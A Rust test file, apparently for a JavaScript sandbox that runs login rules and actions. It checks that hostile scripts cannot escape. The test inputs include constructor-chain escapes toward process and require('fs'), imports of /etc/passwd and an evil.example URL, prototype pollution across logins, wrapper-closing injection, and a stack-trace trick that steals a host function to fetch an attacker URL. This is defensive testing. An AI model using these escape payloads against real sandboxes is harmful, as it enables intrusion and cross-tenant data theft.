//! Scripts that try to get out, to fool the host, or to reach another login.

use super::*;

#[tokio::test]
async fn nothing_of_the_machine_is_there() {
    let names = "require process global Deno Bun module exports std os Worker XMLHttpRequest WebSocket navigator load read print scriptArgs \
        performance WeakRef FinalizationRegistry setInterval setImmediate queueMicrotask gc __filename host prelude ask SharedWorker";
    let code = format!("console.log('{names}'.split(/ +/).filter((n) => n in globalThis).join())");
    // `queueMicrotask` is the language's business in this engine: it is a job like any other.
    let outcome = run(vec![body(&code)]).await;
    assert!(["", "queueMicrotask"].contains(&log(&outcome)[0]), "{:?}", log(&outcome));
    let outcome =
        run(vec![body("console.log(Object.getOwnPropertyNames(globalThis).filter((n) => /^[a-z]/.test(n)).sort().join())")]).await;
    let known = [
        "decodeURI",
        "decodeURIComponent",
        "encodeURI",
        "encodeURIComponent",
        "escape",
        "eval",
        "globalThis",
        "isFinite",
        "isNaN",
        "parseFloat",
        "parseInt",
        "queueMicrotask",
        "undefined",
        "unescape",
    ];
    let unknown: Vec<&str> = log(&outcome)[0].split(',').filter(|name| !known.contains(name)).collect();
    assert_eq!(unknown, Vec::<&str>::new());
}

#[tokio::test]
async fn constructors_lead_to_the_same_empty_world() {
    for code in [
        "return this.constructor.constructor('return process')()",
        "return (async () => {}).constructor('return require(\"fs\")')()",
        "return Function('return typeof host + typeof ask')()",
        "return callback.constructor('return host')()",
        "return console.log.constructor('return waiting')()",
        "return auth0.users.updateUserMetadata.caller",
        "return (0, eval)('host')",
    ] {
        let outcome = run(vec![rule(&format!(
            "function (user, context, callback) {{ let x; try {{ x = (() => {{ {code} }})(); }} catch (e) {{ x = e.name; }}
            user.got = typeof x === 'string' ? x : typeof x; callback(null, user, context); }}"
        ))])
        .await;
        let got = outcome.user["got"].as_str().unwrap_or_default().to_owned();
        assert!(
            ["ReferenceError", "TypeError", "undefined", "undefinedundefined", "object"].contains(&got.as_str()),
            "{code}: {got} {:?}",
            outcome.ran
        );
    }
}

#[tokio::test]
async fn modules_cannot_be_imported() {
    for name in [
        "fs",
        "std",
        "os",
        "qjs:std",
        "./prelude.js",
        "./prelude",
        "././prelude",
        ".//prelude",
        "/./prelude",
        "../prelude",
        "x/../prelude",
        ".\\u002fprelude",
        "./../prelude",
        "./x/.././prelude",
        "script1",
        "prelude",
        "file:///etc/passwd",
        "/etc/passwd",
        "https://evil.example/x.js",
        "data:text/javascript,1",
    ] {
        let outcome = run(vec![body(&format!(
            "await import('{name}').then((m) => console.log('got', Object.keys(m).join()), (e) => console.log('no'));"
        ))])
        .await;
        assert_eq!(log(&outcome), ["no"], "{name}");
    }
}

#[tokio::test]
async fn nobody_waits_on_shared_memory() {
    let outcome = run(vec![body(
        "try { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); console.log('waited'); } catch (e) { console.log('refused'); }",
    )])
    .await;
    assert_eq!(log(&outcome), ["refused"]);
}

#[tokio::test]
async fn two_logins_share_nothing() {
    let host = Arc::new(Host::new(1, Arc::new(Echo)));
    let pollute = rule(
        "function (u, c, cb) {
            Object.prototype.polluted = 'yes'; Array.prototype.map = () => ['evil']; JSON.stringify = () => '{}'; globalThis.left = u.email;
            Promise.prototype.then = function () { throw 1 }; Object.defineProperty(Object.prototype, 'admin', { get: () => true });
            String.prototype.split = () => ['evil']; Object.freeze(Function.prototype);
            cb(null, u, c);
        }",
    );
    let look = body(
        "console.log(({}).polluted, [1].map((x) => x + 1)[0], JSON.stringify([1]), typeof globalThis.left, ({}).admin, await Promise.resolve(1), 'a b'.split(' ')[1])",
    );
    for _ in 0..3 {
        let dirty = host.login(&scripts(vec![pollute.clone()]), input()).await.expect("ran");
        assert!(dirty.failed.is_none(), "{:?}", dirty.ran);
        let clean = host.login(&scripts(vec![look.clone()]), input()).await.expect("ran");
        assert_eq!(log(&clean), ["undefined 2 [1] undefined undefined 1 b"]);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn logins_at_once_keep_their_own_users() {
    let host = Arc::new(host());
    let all = Arc::new(scripts(vec![
        rule(
            "async function (u, c, cb) { globalThis.who = u.email; await new Promise((r) => setTimeout(r, 3)); u.seen = globalThis.who; cb(null, u, c); }",
        ),
        body("await null; api.idToken.setCustomClaim('seen', event.user.seen)"),
    ]));
    let logins = (0..30).map(|number| {
        let (host, all) = (Arc::clone(&host), Arc::clone(&all));
        tokio::spawn(async move {
            let mut given = input();
            given.user.insert("email".into(), format!("person{number}@acme.example").into());
            (number, host.login(&all, given).await.expect("ran"))
        })
    });
    for login in logins.collect::<Vec<_>>() {
        let (number, outcome) = login.await.expect("no panic");
        assert_eq!(outcome.id_token_claims["seen"], format!("person{number}@acme.example"));
    }
}

#[tokio::test]
async fn what_a_polluting_script_breaks_is_its_own() {
    let outcome = run(vec![
        rule("function (u, c, cb) { JSON.stringify = () => '[{\"user_id\":\"forged\"},{}]'; Object.prototype.toJSON = function () { return this; }; Promise.prototype.then = 7; Symbol.iterator; cb(null, u, c); }"),
        body("api.idToken.setCustomClaim('x', event.user.user_id)"),
    ])
    .await;
    assert_eq!((&outcome.user["user_id"], &outcome.id_token_claims["x"]), (&json!("samlp|acme|jane"), &json!("samlp|acme|jane")));
    let outcome =
        run(vec![rule("function (u, c, cb) { Object.prototype.toJSON = function () { throw new Error('mine') }; cb(null, u, c); }")]).await;
    assert_eq!((error(&outcome).message.as_str(), &outcome.user), ("an error that cannot be read", &input().user));
}

#[tokio::test]
async fn things_that_are_no_data_become_data_or_a_failure() {
    let outcome = run(vec![rule(
        "function (u, c, cb) {
            u.f = () => 1; u.u = undefined; u.nan = NaN; u.inf = -Infinity; u.d = new Date(0); u.list = [undefined, () => 1, Symbol('x')];
            u[Symbol('s')] = 1; u.map = new Map([[1, 2]]); u.re = /x/; u.neg = -0; u.boxed = new String('s'); u.json = { toJSON: () => ({ a: 1 }) };
            Object.defineProperty(u, 'hidden', { value: 1, enumerable: false }); u.got = { get x() { return 5 } };
            u.typed = new Uint8Array([1, 2]); u.proxy = new Proxy({ a: 1 }, {}); u.half = '\\ud83d\\ude00';
            cb(null, u, c);
        }",
    )])
    .await;
    let mut expected = input().user;
    expected.extend(map(json!({
        "nan": null, "inf": null, "d": "1970-01-01T00:00:00.000Z", "list": [null, null, null], "map": {}, "re": {}, "neg": 0, "boxed": "s",
        "json": { "a": 1 }, "got": { "x": 5 }, "typed": { "0": 1, "1": 2 }, "proxy": { "a": 1 }, "half": "\u{1f600}",
    })));
    assert_eq!((Value::Object(outcome.user), outcome.failed), (Value::Object(expected), None));
    for bad in [
        "u.x = { get x() { throw new Error('mine') } };",
        "u = new Proxy({}, { ownKeys() { throw new Error('mine') } });",
        "u.toJSON = () => { throw new Error('mine') };",
        "u.toJSON = () => undefined;",
        "u.x = '\\ud800';",
        "c = new Proxy(c, { get() { throw new Error('mine') } });",
        "const r = Proxy.revocable({}, {}); r.revoke(); u.x = r.proxy;",
    ] {
        let outcome = run(vec![rule(&format!("function (u, c, cb) {{ {bad} cb(null, u, c); }}"))]).await;
        assert_eq!((outcome.failed.as_deref(), &outcome.user), (Some("rule"), &input().user), "{bad}");
    }
}

#[tokio::test]
async fn whatever_is_thrown_is_a_failure_in_words() {
    for (thrown, part) in [
        ("null", "null was thrown"),
        ("undefined", "undefined"),
        ("0", "0"),
        ("''", ""),
        ("Symbol('s')", "Symbol(s)"),
        ("{ get message() { throw 1 } }", "cannot be read"),
        ("{ get message() { return { toString() { throw 1 } } } }", ""),
        ("new Proxy({}, { get() { throw 1 } })", "cannot be read"),
        ("new Proxy(new Error('x'), { getPrototypeOf() { throw 1 }, get() { throw 2 } })", "cannot be read"),
        ("Object.defineProperty(new Error('x'), 'stack', { value: { toString() { throw 1 } } })", "Error: x"),
        ("Object.assign(new Error('far'), { stack: 'at x (script1:99999999999999999999:1)' })", "Error: far"),
        ("Object.assign(new Error('far'), { stack: 'at x (script1:4000000000:1)' })", "Error: far"),
        ("Object.create(null)", "{}"),
        ("10n", "10"),
        ("() => 1", ""),
    ] {
        for code in
            [format!("function (u, c, cb) {{ throw {thrown}; }}"), format!("async function (u, c, cb) {{ await null; throw {thrown}; }}")]
        {
            let code = code.replace("throw {", "throw ({").replace("} };", "} });");
            let outcome = run(vec![rule(&code)]).await;
            assert_eq!(outcome.failed.as_deref(), Some("rule"), "{code}");
            assert!(error(&outcome).message.contains(part), "{code}: {:?}", error(&outcome));
            assert!(error(&outcome).line.is_none_or(|line| line <= 1), "{code}: {:?}", error(&outcome));
        }
    }
}

#[tokio::test]
async fn a_message_that_never_ends_is_a_time_out() {
    let mut endless = rule("function (u, c, cb) { throw { get message() { for (;;) {} } }; }");
    endless.limits.time = 60;
    assert_eq!(error(&run(vec![endless]).await).limit.as_deref(), Some("time"));
}

#[tokio::test]
async fn secrets_are_masked_in_errors_logs_denials_and_changes() {
    let code = "function (u, c, cb) {
        const key = configuration.API_KEY;
        console.log(key); console.warn({ key }); console.error(new Error(key)); console.log('x'.repeat(495) + key);
        u.kept = 'key=' + key; u[key] = 1; u.password_hint = 'zzz';
        auth0.users.updateUserMetadata(u.user_id, { note: key }).then(() => cb(null, u, c));
    }";
    let configuration: Arc<BTreeMap<_, _>> =
        Arc::new([("API_KEY".to_owned(), secret("hunter2-secret")), ("PIN".to_owned(), secret("ab"))].into());
    let with = |code: &str| Scripts { configuration: Arc::clone(&configuration), ..scripts(vec![rule(code)]) };
    let outcome = run_with(&with(code), input()).await;
    let trace = serde_json::to_string(&outcome.ran).expect("json");
    assert!(!trace.contains("hunter2") && !trace.contains("zzz") && trace.contains("user.kept"), "{trace}");
    assert_eq!(log(&outcome)[..2], ["***", "warning:  {\"key\":\"***\"}"].map(|line| line.replace("  ", " ")));
    assert_eq!(outcome.user["kept"], "key=hunter2-secret");
    for throwing in ["throw new Error('bad ' + configuration.API_KEY)", "cb(configuration.API_KEY)", "throw configuration"] {
        let outcome = run_with(&with(&format!("function (u, c, cb) {{ {throwing}; }}")), input()).await;
        assert!(!format!("{:?}", outcome.ran).contains("hunter2") && error(&outcome).message.contains("***"), "{throwing}");
    }
    let outcome = run_with(&with("function (u, c, cb) { cb(new UnauthorizedError(configuration.API_KEY)); }"), input()).await;
    assert_eq!(outcome.denied.expect("denied").message, "***");
}

#[tokio::test]
async fn a_script_that_has_ended_can_do_nothing_more() {
    let outcome = run(vec![
        rule("function (u, c, cb) { globalThis.late = () => auth0.users.updateAppMetadata(u.user_id, { role: 'admin' }); globalThis.end = cb; cb(null, u, c); }"),
        body("globalThis.end(new Error('x')); await globalThis.late().catch((e) => console.log(e.message)); globalThis.deny = () => api.access.deny('late'); globalThis.log = console.log;"),
        body("try { globalThis.deny(); } catch (e) { console.log(e.message); } try { globalThis.log('late'); } catch (e) { console.log('no'); }"),
    ])
    .await;
    assert_eq!((&outcome.failed, &outcome.denied, outcome.persist.len()), (&None, &None, 0));
    assert_eq!(log(&outcome), ["the script has ended already", "the script has ended already", "no"]);
}

#[tokio::test]
async fn the_host_function_itself_gives_no_more_power() {
    // QuickJS shows functions of the stack to `prepareStackTrace`.
    let steal = "let found = []; Error.prepareStackTrace = (e, frames) => { for (const f of frames) { try { found.push(f.getFunction()); } catch {} } return ''; };
        try { api.idToken.setCustomClaim(); } catch (e) { e.stack; }
        const host = found.find((f) => typeof f === 'function' && f.length === 3) ?? found[0];
        for (const args of [[1, 'updateAppMetadata', '[\"samlp|acme|joe\",{\"x\":1}]'], [1, 'fetch', '[\"https://evil.example/\",\"GET\",[],null]'],
                            [2, 'access.deny', '[\"x\"]'], [1, 'nothing', '['], [1, 'redirect.nothing', '[]'], [-1, 'done', ''], [1, 'user.x', '[]']])
          try { host(...args); } catch {}";
    let outcome = run(vec![body(steal), body("console.log('next')")]).await;
    assert_eq!((&outcome.denied, outcome.persist.len(), outcome.ran.len()), (&None, 0, 2), "{:?}", outcome.ran);
    assert_eq!(log(&outcome), ["next"]);
}

#[tokio::test]
async fn text_that_closes_its_wrapping_is_still_in_the_sandbox() {
    for code in [
        "1}); globalThis.x = typeof process; (function () { return 0, function (u, c, cb) { u.x = globalThis.x; cb(null, u, c); }",
        "function (u, c, cb) {}}})//",
    ] {
        let outcome = run(vec![rule(code)]).await;
        assert!(outcome.failed.is_some() || outcome.user["x"] == "undefined", "{code}: {outcome:?}");
    }
}

#[tokio::test]
async fn names_like_proto_are_names() {
    let mut given = input();
    given.user.insert("__proto__".into(), json!({ "admin": true }));
    given.user.insert("constructor".into(), json!({ "prototype": { "admin": true } }));
    given.user.insert("app_metadata".into(), json!({ "__proto__": { "admin": true }, "toString": 1 }));
    let outcome = run_with(
        &scripts(vec![
            rule("function (u, c, cb) { u.x = [({}).admin === undefined, u.admin === undefined]; cb(null, u, c); }"),
            body("api.idToken.setCustomClaim('x', [({}).admin === undefined, event.user.admin === undefined]); api.idToken.setCustomClaim('__proto__', 1); api.user.setAppMetadata('__proto__', 2);"),
        ]),
        given.clone(),
    )
    .await;
    assert_eq!((&outcome.user["x"], &outcome.id_token_claims["x"]), (&json!([true, true]), &json!([true, true])));
    assert_eq!((&outcome.user["__proto__"], &outcome.user["app_metadata"]), (&given.user["__proto__"], &given.user["app_metadata"]));
    assert_eq!((&outcome.id_token_claims["__proto__"], &outcome.persist[0].app_metadata["__proto__"]), (&json!(1), &json!(2)));
}
